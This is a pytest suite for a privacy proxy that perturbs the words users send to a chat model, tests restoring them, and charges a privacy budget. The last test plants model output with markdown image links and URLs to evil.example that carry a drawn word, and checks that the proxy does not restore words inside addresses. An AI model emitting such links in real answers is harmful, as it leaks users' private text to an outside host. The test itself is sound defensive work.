"""The proxy: what the chat model sees, and what comes back."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the extra 'server' is not installed")
httpx = pytest.importorskip("httpx", reason="the extra 'server' is not installed")

from sfumato.text import pieces  # noqa: E402

Served = Callable[..., Any]


class StandIn:
    """A chat model that answers with what it was sent."""

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []
        self.status = 200
        self.body: bytes | None = None

    def __call__(self, request: Any) -> Any:
        body = json.loads(request.content)
        self.seen.append({"body": body, "headers": dict(request.headers), "url": str(request.url)})
        said = body["messages"][-1]["content"]
        if self.status != 200 or self.body is not None:
            return httpx.Response(self.status, content=self.body or said.encode())
        if body.get("stream"):
            return httpx.Response(200, stream=_Events(said), headers={"content-type": "text/event-stream"})
        message = {"role": "assistant", "content": said}
        choices = [{"index": 0, "message": message, "finish_reason": "stop"}]
        return httpx.Response(200, json={"object": "chat.completion", "model": body["model"], "choices": choices})


class _Events(httpx.AsyncByteStream):
    def __init__(self, said: str) -> None:
        self._said = said

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for place in range(0, len(self._said), 2):
            delta = {"index": 0, "delta": {"content": self._said[place : place + 2]}, "finish_reason": None}
            yield b"data: " + json.dumps({"choices": [delta]}).encode() + b"\n\n"
        yield b'data: {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}\n\ndata: [DONE]\n\n'


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> StandIn:
    from sfumato.server import chat

    stand_in, real = StandIn(), chat.new_client

    def new_client(settings: Any) -> Any:
        client = real(settings)
        client._transport = httpx.MockTransport(stand_in)
        return client

    monkeypatch.setattr(chat, "new_client", new_client)
    return stand_in


@pytest.fixture
def chatting(served: Served, written: dict[str, Any], model: StandIn, tmp_path: Path) -> Callable[..., Any]:
    (tmp_path / "upstream.key").write_text("upstream-secret\n")

    def start(**changes: Any) -> Any:
        written["chat"] = {
            "upstream": "http://model.invalid/v1", "mechanism": "everyday", "models": ["small", "large"],
            "key_file": "upstream.key", **changes,
        }  # fmt: skip
        return served(written)

    return start


def _asked(*messages: tuple[str, str], **more: Any) -> dict[str, Any]:
    return {"messages": [{"role": role, "content": content} for role, content in messages], **more}


LONG = " ".join(["zebra cold hot rain"] * 15)


def test_the_model_sees_drawn_words_only(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting()
    asked = _asked(("system", "Be brief."), ("user", LONG), ("assistant", "zebra"), ("user", LONG), temperature=0.5)
    answer = client.post("/v1/chat/completions", json=asked)
    assert answer.status_code == 200
    body = model.seen[0]["body"]
    assert body["model"] == "small"
    assert body["temperature"] == 0.5
    assert set(body) == {"model", "messages", "stream", "temperature"}
    contents = [message["content"] for message in body["messages"]]
    assert contents[0] == "Be brief."
    assert all("zebra" not in content for content in contents)
    assert pieces(contents[1])[0::2] == pieces(LONG)[0::2]
    assert model.seen[0]["headers"]["authorization"] == "Bearer upstream-secret"
    assert model.seen[0]["url"] == "http://model.invalid/v1/chat/completions"
    promise = json.loads(answer.headers["sfumato-guarantee"])
    assert promise["kind"] == "metric"
    assert promise["protected_words"] == 121
    assert promise["certified"] <= 0.5


def test_all_roles_can_be_protected(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting(roles=["user", "system", "assistant", "tool", "developer"])
    client.post("/v1/chat/completions", json=_asked(("system", "zebra"), ("user", "zebra")))
    assert "zebra" not in json.dumps(model.seen[0]["body"])


def test_what_could_carry_words_unseen_is_refused(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting()
    message = {"role": "user", "content": "cold"}
    for more in ({"user": "zebra"}, {"tools": []}, {"stop": ["zebra"]}, {"metadata": {"a": "zebra"}}, {"n": 2}):
        answer = client.post("/v1/chat/completions", json={"messages": [message], **more})
        assert answer.status_code == 422
        assert "zebra" not in answer.text
    named = {"messages": [{**message, "name": "zebra"}]}
    picture = {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "zebra"}}]}]}
    for body in (named, picture):
        assert client.post("/v1/chat/completions", json=body).status_code == 422
    assert client.post("/v1/chat/completions", json=_asked(("user", "cold"), model="other")).status_code == 422
    assert model.seen == []


def _streamed(answer: Any) -> str:
    said = ""
    lines = [line[6:] for line in answer.text.splitlines() if line.startswith("data: ")]
    assert lines[-1] == "[DONE]"
    for line in lines[:-1]:
        for choice in json.loads(line)["choices"]:
            said += choice["delta"].get("content") or ""
    return said


def test_an_answer_is_streamed(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting()
    answer = client.post("/v1/chat/completions", json=_asked(("user", LONG), stream=True))
    assert answer.headers["content-type"].startswith("text/event-stream")
    assert "sfumato-guarantee" in answer.headers
    assert _streamed(answer) == model.seen[0]["body"]["messages"][0]["content"]


@pytest.mark.parametrize("stream", [False, True])
def test_words_are_put_back_where_that_is_allowed(chatting: Callable[..., Any], model: StandIn, stream: bool) -> None:
    client = chatting(restore="on-request")
    # Words of the text that were drawn more than once, or stayed, are not put back: ask with one unknown word.
    for _ in range(20):
        answer = client.post(
            "/v1/chat/completions", json=_asked(("user", "Zebra."), sfumato_restore=True, stream=stream)
        )
        said = _streamed(answer) if stream else answer.json()["choices"][0]["message"]["content"]
        assert said == "Zebra."
    assert all("zebra" not in json.dumps(one["body"]).lower() for one in model.seen)
    assert all("sfumato_restore" not in one["body"] for one in model.seen)


def test_words_are_not_put_back_unless_allowed_and_asked_for(chatting: Callable[..., Any], model: StandIn) -> None:
    refused = chatting().post("/v1/chat/completions", json=_asked(("user", "zebra"), sfumato_restore=True))
    assert refused.status_code == 403
    assert model.seen == []
    answer = chatting(restore="on-request").post("/v1/chat/completions", json=_asked(("user", "zebra")))
    assert "zebra" not in answer.text


@pytest.mark.parametrize(
    ("status", "body"),
    [(500, None), (401, None), (302, None), (200, b"{"), (200, b'{"choices": 1}'), (200, b"[" * 9000),
     (200, b'{"choices": [], "usage": NaN}'), (200, b'{"choices": [], "usage": 1e999}')],
)  # fmt: skip
def test_an_upstream_that_fails_is_not_quoted(
    chatting: Callable[..., Any], model: StandIn, status: int, body: bytes | None
) -> None:
    client = chatting()
    model.status, model.body = status, body
    answer = client.post("/v1/chat/completions", json=_asked(("system", "xyzzyplugh"), ("user", "xyzzyplugh cold")))
    assert answer.status_code == 502
    sent = model.seen[0]["body"]["messages"][1]["content"]
    assert "xyzzyplugh" not in answer.text
    assert sent not in answer.text
    assert "sfumato-guarantee" in answer.headers


def test_the_words_of_a_conversation_are_charged(
    chatting: Callable[..., Any],
    written: dict[str, Any],
    with_a_key: dict[str, str],
    tmp_path: Path,
    model: StandIn,
) -> None:
    pytest.importorskip("sqlalchemy", reason="the extra 'ledger' is not installed")
    from sfumato.ledger import Ledger

    with Ledger.open(tmp_path / "budgets.db") as ledger:
        ledger.create("ada", kind="metric", limit=2)
    written["ledger"] = {"url": "budgets.db"}
    client = chatting()
    client.headers.update(with_a_key)
    body = _asked(("user", "cold hot"), ("user", "sun"))
    headers = {"idempotency-key": "turn 1"}
    for _ in range(2):
        assert client.post("/v1/chat/completions", json=body, headers=headers).status_code == 200
    assert model.seen[0]["body"] == model.seen[1]["body"]
    assert client.get("/v1/budget/ada").json()["charges"] == 1
    assert client.post("/v1/chat/completions", json=_asked(("user", "cold hot sun"))).status_code == 402
    assert len(model.seen) == 2


def test_a_conversation_draws_and_charges_each_message_once(
    chatting: Callable[..., Any],
    written: dict[str, Any],
    with_a_key: dict[str, str],
    tmp_path: Path,
    model: StandIn,
) -> None:
    pytest.importorskip("sqlalchemy", reason="the extra 'ledger' is not installed")
    from sfumato.ledger import Ledger

    with Ledger.open(tmp_path / "budgets.db") as ledger:
        ledger.create("ada", kind="metric", limit=1000)
    written["ledger"] = {"url": "budgets.db"}
    client = chatting()
    client.headers.update(with_a_key)
    turns = [("user", LONG), ("assistant", "sun wind rain"), ("user", LONG)]

    def ask(*messages: tuple[str, str], **more: Any) -> list[str]:
        answer = client.post("/v1/chat/completions", json=_asked(*messages, **more))
        assert answer.status_code == 200
        return [message["content"] for message in model.seen[-1]["body"]["messages"]]

    def charges() -> int:
        return int(client.get("/v1/budget/ada").json()["charges"])

    first = ask(*turns[:1], sfumato_conversation="c 1")
    assert charges() == 1
    second = ask(*turns, sfumato_conversation="c 1")
    assert second[0] == first[0]
    assert second[2] != first[0]  # the same words in another place are another message, with noise of its own
    assert charges() == 3
    assert ask(*turns, sfumato_conversation="c 1") == second
    assert charges() == 3
    changed = ask(("user", LONG + " storm"), sfumato_conversation="c 1")
    assert changed[0].split()[:60] != first[0].split()  # 60 draws at epsilon .5 agree with probability below 1e-20
    assert ask(*turns[:1], sfumato_conversation="c 2") != first
    assert ask(*turns[:1]) != first
    assert charges() == 6
    assert all("sfumato_conversation" not in one["body"] for one in model.seen)
    both = {**_asked(*turns, sfumato_conversation="c 1")}
    refused = client.post("/v1/chat/completions", json=both, headers={"idempotency-key": "k"})
    assert refused.status_code == 422


@pytest.mark.parametrize("stream", [False, True])
def test_the_list_of_replaced_words_lives_as_long_as_its_request(
    chatting: Callable[..., Any], model: StandIn, stream: bool
) -> None:
    import gc

    from sfumato.server.restoring import Restorer

    client = chatting(restore="on-request")
    client.post("/v1/chat/completions", json=_asked(("user", "Zebra cold."), sfumato_restore=True, stream=stream))
    gc.collect()
    assert [one for one in gc.get_objects() if isinstance(one, Restorer)] == []


def test_what_an_upstream_spells_in_halves_is_passed_on_as_ascii(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting()
    model.body = b'{"model": "small", "choices": [{"message": {"role": "assistant", "content": "a\\ud800b"}}]}'
    answer = client.post("/v1/chat/completions", json=_asked(("user", "cold")))
    assert answer.status_code == 200
    assert answer.json()["choices"][0]["message"]["content"] == "a\ud800b"
    assert model.seen[0]["headers"]["accept-encoding"] == "identity"


def test_a_stream_with_what_is_no_json_breaks_off(chatting: Callable[..., Any], model: StandIn) -> None:
    client = chatting()
    model.body = b'data: {"choices": []}\n\ndata: {"choices": [], "usage": NaN}\n\ndata: [DONE]\n\n'
    answer = client.post("/v1/chat/completions", json=_asked(("user", "cold"), stream=True))
    assert "NaN" not in answer.text
    assert "broke off" in answer.text


@pytest.mark.parametrize("stream", [False, True])
def test_a_model_cannot_have_a_word_sent_to_it_in_an_address(
    chatting: Callable[..., Any], model: StandIn, monkeypatch: pytest.MonkeyPatch, stream: bool
) -> None:
    """It answers with a picture whose address holds the drawn word: a page that shows pictures would fetch it."""
    client = chatting(restore="on-request")
    before = StandIn.__call__
    said = ("{0}: ![x](https://evil.example/?q={0})\n![x](\n&#47;&#47;evil.example/{0})\n[x]: {0}\n<img src='{0}'>\n\n{0} "
            "www.evil.example/{0} //evil.example/{0}")  # fmt: skip

    def answering(self: StandIn, request: Any) -> Any:
        body = json.loads(request.content)
        body["messages"][-1]["content"] = said.format(body["messages"][-1]["content"])
        return before(self, httpx.Request("POST", request.url, headers=request.headers, json=body))

    monkeypatch.setattr(StandIn, "__call__", answering)
    asked = _asked(("user", "zebra"), sfumato_restore=True, stream=stream)
    answer = client.post("/v1/chat/completions", json=asked)
    text = _streamed(answer) if stream else answer.json()["choices"][0]["message"]["content"]
    assert text.count("zebra") == 2
    assert text.startswith("zebra: ![x](")
    assert "\n\nzebra www" in text
